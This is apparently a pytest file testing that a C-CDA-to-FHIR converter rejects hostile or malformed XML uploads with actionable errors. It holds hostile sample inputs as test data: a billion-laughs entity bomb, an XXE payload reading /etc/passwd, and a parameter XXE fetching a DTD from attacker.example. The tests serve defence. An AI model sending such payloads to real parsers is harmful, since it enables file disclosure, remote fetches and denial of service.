"""C-CDA -> FHIR R4: hostile and wrong input is refused with a message the uploader can act on."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from interop import ccda
from interop.ccda import CcdaError, ccda_to_bundle

from .ccda_support import DATA, document, needs_samples, vital, vitals_section

# ------------------------------------------------------------------------------------------
# hostile and wrong input
# ------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ClinicalDocument xmlns="urn:hl7-org:v3">
  <templateId root="2.16.840.1.113883.10.20.22.1.1"/><title>&xxe;</title>
</ClinicalDocument>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""


def test_entity_bomb_is_refused_without_expanding() -> None:
    started = time.monotonic()
    with pytest.raises(CcdaError, match=r"entity bomb.*billion laughs"):
        ccda_to_bundle(BILLION_LAUGHS)
    assert time.monotonic() - started < 1


@pytest.mark.parametrize("data", [XXE, PARAMETER_XXE], ids=["general", "parameter"])
def test_external_entity_is_refused(data: bytes) -> None:
    with pytest.raises(CcdaError, match=r"external entity \(an “XXE” attack"):
        ccda_to_bundle(data)


def test_doctype_is_refused() -> None:
    data = b'<!DOCTYPE ClinicalDocument SYSTEM "cda.dtd"><ClinicalDocument xmlns="urn:hl7-org:v3"/>'
    with pytest.raises(CcdaError, match=r"document type declaration"):
        ccda_to_bundle(data)


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b'{"resourceType": "Bundle"}', b"\x00\x01binary"],
    ids=["pdf", "json", "binary"],
)
def test_non_xml_is_refused(data: bytes) -> None:
    with pytest.raises(CcdaError, match=r"^This file is not XML"):
        ccda_to_bundle(data)


def test_empty_file_is_refused() -> None:
    with pytest.raises(CcdaError, match=r"^This file is empty"):
        ccda_to_bundle(b"  \n")


@pytest.mark.parametrize(
    ("data", "detail"),
    [
        (b"<html><body><p>Download your record</p></body></html>", "main element is <html>"),
        (b'<Patient xmlns="http://hl7.org/fhir"><id value="x"/></Patient>', "<Patient>"),
        (b'<ClinicalDocument xmlns="urn:example"/>', "not in the HL7 v3 namespace"),
        (
            b'<ClinicalDocument xmlns="urn:hl7-org:v3">'
            b'<templateId root="2.16.840.1.113883.10.20.1"/></ClinicalDocument>',
            "without the C-CDA template",
        ),
    ],
    ids=["html", "fhir-xml", "wrong-namespace", "old-ccd"],
)
def test_xml_that_is_not_a_ccda_is_refused(data: bytes, detail: str) -> None:
    with pytest.raises(CcdaError, match=r"^This file is not a C-CDA document") as caught:
        ccda_to_bundle(data)
    assert detail in str(caught.value)


def test_truncated_ccda_is_refused() -> None:
    data = document(vitals_section(vital("29463-7", "12.5", "kg", "20130915")))
    with pytest.raises(CcdaError, match=r"not well-formed XML \(.*line \d+.*cut short"):
        ccda_to_bundle(data[: len(data) // 2])


@needs_samples
def test_truncated_shared_sample_is_refused() -> None:
    data = (DATA / "hl7-examples/CCD_1.xml").read_bytes()
    with pytest.raises(CcdaError, match=r"not well-formed XML.*cut short"):
        ccda_to_bundle(data[:-200])


def test_document_without_patient_is_refused() -> None:
    with pytest.raises(CcdaError, match=r"names no patient"):
        ccda_to_bundle(document(patient=""))


def test_other_encodings_and_str_input_are_accepted() -> None:
    data = document()
    utf16 = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert ccda_to_bundle(utf16) == ccda_to_bundle(data) == ccda_to_bundle(data.decode())


def test_module_parses_xml_only_through_defusedxml() -> None:
    package = Path(ccda.__file__).parent
    modules = sorted(package.rglob("*.py"))
    assert package / "guard.py" in modules
    for module in modules:
        source = module.read_text()
        assert not re.search(r"^\s*(import|from)\s+(xml|lxml)\b", source, re.M), module
    assert "from defusedxml import ElementTree as SafeET" in (package / "guard.py").read_text()
